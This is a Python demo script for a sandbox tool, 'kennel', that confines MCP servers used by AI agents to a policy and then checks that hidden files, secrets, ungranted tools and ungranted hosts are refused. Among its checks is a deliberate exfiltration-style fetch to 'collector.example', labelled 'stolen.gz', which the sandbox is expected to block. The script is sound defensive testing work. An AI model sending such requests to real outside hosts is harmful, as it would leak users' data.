#!/usr/bin/env python3
"""make demo: an agent's session with two real servers on a leash, shown line by line.

Runs as an ordinary user where it can: started as root it makes one for itself
and takes it away again at the end.
"""
import json
import os
import socketserver
import subprocess
import sys
import threading

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True


def show(mark, text):
    for line in str(text).rstrip("\n").split("\n"):
        print("  %s %s" % (mark, line[:150]), flush=True)


def title(text):
    print("\n\033[1m%s\033[0m" % text if sys.stdout.isatty() else "\n" + text, flush=True)


# ---- the outer half: stage, user, clean up ------------------------------------------

def outer():
    sys.path.insert(0, HERE + "/..")
    sys.path.insert(0, HERE + "/../lib")
    import kit
    import run as runner
    kit.be_subreaper()
    user = runner.User()
    stage = runner.Stage(user)
    try:
        stage.fill()
        tmp = stage.folder("demo", user.uid, user.gid)
        env = {"KT_STAGE": stage.path, "KT_TMP": tmp, "KT_AS": "user", "KT_UID": str(user.uid),
               "KENNEL_HOME": tmp + "/home", "HOME": tmp, "PATH": "/usr/local/bin:/usr/bin:/bin",
               "LANG": "C.UTF-8", "TMPDIR": tmp, "PYTHONDONTWRITEBYTECODE": "1"}
        python = sys.executable if os.path.realpath(sys.executable).startswith("/usr/") else "/usr/bin/python3"
        status = subprocess.call(user.prefix() + [python, stage.path + "/tests/demo/demo.py", "--inner"],
                                 env=env, cwd="/")
        kit.wait_for(lambda: (kit.reap(), not kit.descendants(os.getpid()))[1], 12)
        left = kit.descendants(os.getpid())
        for pid in left:
            os.kill(pid, 9)
        if left:
            print("left behind:", left)
            status = status or 1
    finally:
        stage.remove()
        user.remove()
    return status


# ---- the inner half: the session -----------------------------------------------------

TOKEN = "ghp_demo%d5Zq7TtW" % os.getpid()


def short(text):
    import kit
    return text.replace(kit.MODULES, "$MODULES").replace(kit.TMP, "$DEMO")


def ask(s, method, params, what=None):
    show("agent asks  >", short(what) if what else "%s %s" % (method, json.dumps(params) if params else ""))
    m = s.request(method, params)
    if "error" in m:
        show("comes back  <", "error %d: %s" % (m["error"]["code"], m["error"]["message"]))
        return m
    r = m["result"]
    if "tools" in r:
        show("comes back  <", "%d tools: %s" % (len(r["tools"]), " ".join(t["name"] for t in r["tools"])))
    elif "content" in r:
        for c in r["content"]:
            if c["type"] == "text":
                show("comes back  <", short(c["text"]))
            elif c["type"] == "resource_link":
                show("comes back  <", "a link to %s, %s" % (c["uri"], c["mimeType"]))
    else:
        show("comes back  <", json.dumps(r)[:300])
    return m


def call(s, tool, **arguments):
    return ask(s, "tools/call", {"name": tool, "arguments": arguments},
               "%s %s" % (tool, json.dumps(arguments)))


class Host(socketserver.StreamRequestHandler):
    """A web server on this machine's loopback: the one host that is granted."""

    def handle(self):
        while self.rfile.readline().strip():
            pass
        self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: close\r\n\r\nwoof, woof.\n")


def host():
    """Starts it; its port."""
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Host)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


def policy_text(kit, work, port):
    everything = kit.MODULES + "/@modelcontextprotocol/server-everything/dist/index.js"
    files = kit.MODULES + "/@modelcontextprotocol/server-filesystem/dist/index.js"
    w = kit.words
    user = '    user "%d"\n' % kit.UID if os.geteuid() == 0 else ""
    return """# demo.kennel: what the two servers may do; everything else is denied.
server files {
    about "files of one project"
    run   %s
    read  %s
%s    write %s
    hide  %s
    tool  allow read_text_file write_file list_directory list_allowed_directories
}

server everything {
    about "the reference server, with a token it must not repeat"
    run    %s
    read   %s
    secret API_TOKEN from env DEMO_TOKEN
    tool   allow echo get-sum get-env gzip-file-as-resource
    net    allow localhost:%d to loopback plain
    sampling allow
}

server shell {
    about "a shell that may run one command"
    run   /bin/sh **
    exec  allow /bin/echo **
    read  /usr/bin
}
""" % (w(kit.NODE, files, work), w(kit.MODULES), user, w(work), w(work + "/.env"),
       w(kit.NODE, everything), w(kit.MODULES), port)


def inner():
    sys.path.insert(0, HERE + "/../lib")
    import kit
    work = kit.TMP + "/project"
    os.makedirs(work, mode=0o755)
    os.makedirs(kit.HOME, mode=0o700, exist_ok=True)
    for name, text in (("README.txt", "Notes of the project.\n"), (".env", "PASSWORD=hunter2\n")):
        with open(work + "/" + name, "w") as f:
            f.write(text)
    policy = kit.TMP + "/demo.kennel"
    with open(policy, "w") as f:
        port = host()
        f.write(policy_text(kit, work, port))
    who = "root" if os.geteuid() == 0 else "an ordinary user (uid %d)" % os.geteuid()
    title("kennel: two real MCP servers on a leash, as %s" % who)
    failed = []

    def expect(ok, what):
        if not ok:
            failed.append(what)
            show("!!", "NOT AS EXPECTED: " + what)

    title("1. The policy: what is written is what is granted")
    for line in open(policy):
        show("|", line.rstrip().replace(kit.MODULES, "$MODULES").replace(kit.TMP, "$DEMO"))
    r = kit.run([kit.KENNEL, "policy", "check", policy])
    expect(r.returncode == 0, "policy check: %s" % r.stderr.decode())
    show("$", "kennel policy check demo.kennel  ->  %d" % r.returncode)

    def session(name, env=None):
        s = kit.Mcp([kit.KENNEL, "run", name, "--policy", policy], env=env)
        show("agent runs   ", "kennel run %s --policy demo.kennel" % name)
        m = s.initialize()
        show("comes back  <", json.dumps(m["result"]["serverInfo"]) if "result" in m else json.dumps(m))
        expect("result" in m, "initialize of " + name)
        return s

    title("2. @modelcontextprotocol/server-filesystem: one folder, one hidden file")
    s = session("files")
    ask(s, "tools/list", {}, "tools/list   (the policy allows four)")
    m = call(s, "read_text_file", path=work + "/README.txt")
    expect("Notes" in json.dumps(m), "reading a granted file")
    call(s, "write_file", path=work + "/todo.txt", content="walk the dog\n")
    expect(os.path.exists(work + "/todo.txt"), "writing into the granted folder")
    show("           --", "the same folder holds .env, which the policy hides:")
    m = call(s, "read_text_file", path=work + "/.env")
    expect("hunter2" not in json.dumps(m), "the hidden file stays hidden")
    show("           --", "a tool that the policy does not name:")
    m = call(s, "move_file", source=work + "/README.txt", destination=work + "/x")
    expect("error" in m or m["result"].get("isError"), "an ungranted tool is refused")
    s.close()

    title("3. @modelcontextprotocol/server-everything: a secret it has and cannot repeat")
    s = session("everything", env={"DEMO_TOKEN": TOKEN, "OTHER_SECRET": "not for servers"})
    show("           --", "the agent's environment has DEMO_TOKEN and OTHER_SECRET; the tool prints the server's:")
    m = call(s, "get-env")
    expect(TOKEN not in json.dumps(m) and "***" in json.dumps(m), "the secret is scrubbed")
    expect("OTHER_SECRET" not in json.dumps(m), "only the granted variables arrive")
    call(s, "get-sum", a=2, b=40)

    title("4. Network: the granted name answers, and no other name exists")
    show("           --", "the same server fetches addresses; it needs no proxy variable:")
    url = "http://localhost:%d/notes.txt" % port
    m = call(s, "gzip-file-as-resource", name="notes.gz", data=url)
    expect("resource_link" in json.dumps(m), "a granted host is reached")
    show("           --", "a name that the policy does not grant:")
    m = call(s, "gzip-file-as-resource", name="stolen.gz", data="http://collector.example/?notes")
    expect("error" in m or m["result"].get("isError"), "another host is refused")
    s.close()
    for line in s.stderr().splitlines():
        if "net allow" in line:
            show("stderr       ", line)
    r = kit.run([kit.KENNEL, "audit", "denials", "--server", "everything"])
    show("$", "kennel audit denials --server everything")
    for line in r.stdout.decode(errors="replace").splitlines():
        show("comes back  <", line)
    expect(b"net allow collector.example" in r.stdout, "the log has the line that would grant it")

    title("5. Programs: what nothing grants does not start")
    for argv in (["/bin/echo", "granted"], ["/usr/bin/env"]):
        cmd = " ".join(argv)
        r = kit.run([kit.KENNEL, "exec", "--policy", policy, "shell", "--", "/bin/sh", "-c", cmd])
        show("$", "kennel exec --policy demo.kennel shell -- /bin/sh -c '%s'" % cmd)
        show("comes back  <", (r.stdout + r.stderr).decode(errors="replace") + "status %d" % r.returncode)
        expect((r.returncode == 0) == (argv[0] == "/bin/echo"), "exec of " + cmd)

    r = kit.run([kit.KENNEL, "exec", "--policy", policy, "shell", "--", "/usr/bin/env"])
    show("$", "kennel exec --policy demo.kennel shell -- /usr/bin/env")
    show("comes back  <", (r.stdout + r.stderr).decode(errors="replace").replace(kit.TMP, "$DEMO") +
         "status %d" % r.returncode)
    expect(r.returncode == 126, "an ungranted program given to kennel exec")

    title("6. The log: what happened, and that nobody changed it")
    kit.wait_for(lambda: any('"stop"' in json.dumps(e) for e in kit.audit()), 3)
    r = kit.run([kit.KENNEL, "audit", "log"])
    for line in r.stdout.decode(errors="replace").splitlines():
        show("|", line.replace(kit.TMP, "$DEMO"))
    expect(r.returncode == 0 and r.stdout, "audit log")
    r = kit.run([kit.KENNEL, "audit", "verify"])
    show("$", "kennel audit verify")
    show("comes back  <", (r.stdout + r.stderr).decode(errors="replace"))
    expect(r.returncode == 0, "audit verify")
    for folder, _, names in os.walk(kit.HOME):
        for name in names:
            expect(TOKEN.encode() not in kit.reads(folder + "/" + name), "the token is in " + name)
    kit.end_all()
    title("%s" % ("The demo did not go as expected: " + "; ".join(failed) if failed else "All as the policy says."))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(inner() if sys.argv[1:] == ["--inner"] else outer())
